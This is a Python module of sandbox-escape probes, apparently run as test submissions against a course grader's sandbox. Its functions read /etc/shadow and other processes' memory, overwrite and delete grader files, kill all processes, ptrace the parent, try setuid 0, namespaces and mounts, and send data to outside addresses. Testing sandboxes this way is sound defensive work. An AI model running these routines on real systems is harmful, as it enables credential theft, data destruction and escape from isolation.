"""Attacks on what lies outside: files, processes, memory, network."""

# ruff: noqa: F821, SIM115 (each function becomes a submission, behind the imports of frame.py)


def read_everything():
    """The tests, the solutions, other submissions, the machine's own files."""
    for path in TARGET["files"]:
        attempt(f"read {path}", lambda path=path: pathlib.Path(path).read_bytes())
    for path in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/1/mem", "/proc/kcore"):
        attempt(f"read {path}", lambda path=path: open(path, "rb").read(1) or 1 / 0)
    for path in TARGET["folders"]:
        attempt(f"list {path}", lambda path=path: os.listdir(path)[0])
    for path in ("/home", "/etc/ssh", "/var/lib", "/sys/kernel", "/boot"):
        attempt(f"list {path}", lambda path=path: os.listdir(path)[0])
    pathlib.Path("link").symlink_to(TARGET["files"][0])
    attempt("read through a link", lambda: pathlib.Path("link").read_bytes())
    attempt("link to it", os.link, TARGET["files"][0], "hard")


def search_the_disk():
    """The marker is in the tests, in other submissions and in the judge's environment."""
    known = ("/dev", "/usr", "/proc", "/sys", "/lib", TARGET["python"], TARGET["venv"])
    TRIED.append("search the disk")
    for top, folders, names in os.walk("/"):
        folders[:] = [each for each in folders if not os.path.join(top, each).startswith(known)]
        for name in names:
            with contextlib.suppress(OSError):
                if TARGET["marker"].encode() in pathlib.Path(top, name).read_bytes():
                    THROUGH.append(os.path.join(top, name))
    THROUGH[:] = [each for each in THROUGH if not each.endswith(TARGET["own"])]


def search_the_processes():
    """Environments, command lines and memory of all that runs."""
    TRIED.append("search the processes")
    wanted = TARGET["marker"].encode() + b"-secret"
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if wanted in pathlib.Path(path).read_bytes():
                THROUGH.append(path)
    if wanted.decode() in repr(dict(os.environ)):
        THROUGH.append("os.environ")
    count = len(glob.glob("/proc/[0-9]*"))
    if count > 16:
        THROUGH.append(f"{count} processes are seen")


def search_the_memory():
    """All that the process holds: frames, constants, arguments, the heap itself."""
    TRIED.append("search the memory")
    half = TARGET["marker"][: len(TARGET["marker"]) // 2].encode()
    wanted = half + TARGET["marker"][len(half) :].encode() + b"-expected"
    for thing in gc.get_objects():
        with contextlib.suppress(BaseException):
            if isinstance(thing, dict | list | tuple) and wanted.decode() in str(thing):
                THROUGH.append(str(type(thing)))
    for number, frame_ in sys._current_frames().items():
        while frame_:
            if "test" in frame_.f_code.co_filename or "judge" in frame_.f_code.co_filename:
                THROUGH.append(f"{number} {frame_.f_code}")
            frame_ = frame_.f_back
    sandbox = ("course.grading.sandbox.", "course.grading.sandbox", "course.grading", "course")
    own = {f"{sandbox[0]}{name}" for name in ("inside", "serve", "wire", "witness", "namespaces")}
    for name in sys.modules:
        if name.startswith(("course", "test_", "_pytest")) and name not in {*own, *sandbox[1:]}:
            THROUGH.append(f"the judge's module {name}")


def write_and_delete_outside():
    for path in TARGET["files"]:
        attempt(f"write {path}", lambda path=path: pathlib.Path(path).write_text("forged"))
        attempt(f"delete {path}", os.remove, path)
        attempt(f"chmod {path}", os.chmod, path, 0o777)
    for path in [*TARGET["folders"], TARGET["python"], TARGET["venv"], "/", "/usr", "/usr/lib"]:
        attempt(f"write into {path}", lambda path=path: pathlib.Path(path, "x").write_text("x"))
    # What the next submission would import.
    for thing in (os, json, sys.modules["flask"], sys.modules["werkzeug"]):
        attempt(f"patch {thing.__file__}", lambda thing=thing: open(thing.__file__, "a").close())
    inside = {*glob.glob("/.six-days/*"), *glob.glob("/.six-days/course/*")} - {"/.six-days/work"}
    for path in [
        *sorted(inside),
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/dev/kmsg",
    ]:
        if os.path.isdir(path):
            attempt(f"write into {path}", lambda path=path: pathlib.Path(path, "x").write_text("x"))
        else:
            attempt(f"write {path}", lambda path=path: open(path, "ab").close())
        attempt(f"move {path}", lambda path=path: os.rename(path, f"{path}2"))


def signal_everybody():
    """The judge, the parents, the first process, all of them."""
    if not alone():
        THROUGH.append("the machine's first process is seen")  # and is left alone
        return
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in TARGET["pids"]:
            attempt(f"signal {pid}", os.kill, pid, number)
    # The first process of its own world is deaf; the test sees that the box lives on.
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(1, number)


def kill_everybody():
    if not alone():
        return "the machine's first process is seen, THROUGH"
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    return "everybody else is dead"


def debug_the_box():
    """Become the box: ptrace, its memory, its descriptors."""
    libc = ctypes.CDLL(None, use_errno=True)

    def ptrace(pid):
        assert libc.ptrace(0x4206, pid, 0, 0) == 0  # PTRACE_SEIZE

    for pid in {1, os.getppid()}:
        attempt(f"ptrace {pid}", ptrace, pid)
        attempt(f"open the memory of {pid}", lambda pid=pid: open(f"/proc/{pid}/mem", "rb").close())
        attempt(f"list what {pid} has open", os.listdir, f"/proc/{pid}/fd")


def become_somebody():
    """Rights, namespaces, mounts, devices, keys."""
    libc = ctypes.CDLL(None, use_errno=True)

    def number(result):
        assert result >= 0

    attempt("setuid 0", os.setuid, 0)
    attempt("setgroups", os.setgroups, [0])
    attempt("chroot", os.chroot, ".")
    attempt("mknod", os.mknod, "disk", 0o60666, os.makedev(8, 0))
    attempt("sethostname", socket.sethostname, "mine")
    attempt("nice", os.nice, -5)
    attempt("more processes", raise_limit, "RLIMIT_NPROC")
    attempt("more memory", raise_limit, "RLIMIT_AS")
    attempt("mount", lambda: number(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
        attempt(f"unshare {flag:#x}", lambda flag=flag: number(libc.unshare(flag)))
    attempt("clone", lambda: number(libc.syscall(56, 0x10000011, 0, 0, 0, 0)))
    attempt("shmget", lambda: number(libc.shmget(0, 4096, 0o1600)))
    attempt("msgget", lambda: number(libc.msgget(0, 0o1600)))
    attempt("add_key", lambda: number(libc.syscall(248, b"user", b"a", b"b", 1, -4)))
    for name in ("su", "sudo", "mount", "passwd", "newgrp", "pkexec"):
        path = shutil.which(name) or "/nowhere"
        attempt(
            name,
            lambda path=path: subprocess.run(
                [path, "-c", "id -u"], check=True, timeout=1, stdin=subprocess.DEVNULL
            ),
        )


def raise_limit(name):
    import resource

    resource.setrlimit(getattr(resource, name), (-1, -1))


def reach_the_network():
    address = ("127.0.0.1", TARGET["port"])
    attempt("tcp", lambda: socket.create_connection(address, 0.3))
    attempt("tcp 6", lambda: socket.create_connection(("::1", TARGET["port"]), 0.3))
    attempt("out", lambda: socket.create_connection(("192.0.2.1", 80), 0.3))
    attempt("names", lambda: socket.getaddrinfo("example.org", 80))

    def send(family, where):
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"leak", where)

    def connect(where):
        with socket.socket(socket.AF_UNIX) as sender:
            sender.connect(where)

    attempt("udp out", send, socket.AF_INET, ("192.0.2.1", 53))
    # Loopback swallows what no one receives; the test looks whether it arrived.
    with contextlib.suppress(OSError):
        send(socket.AF_INET, ("127.0.0.1", TARGET["udp"]))
    attempt("abstract socket", connect, "\0" + TARGET["abstract"])
    attempt("socket file", connect, TARGET["socket"])
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
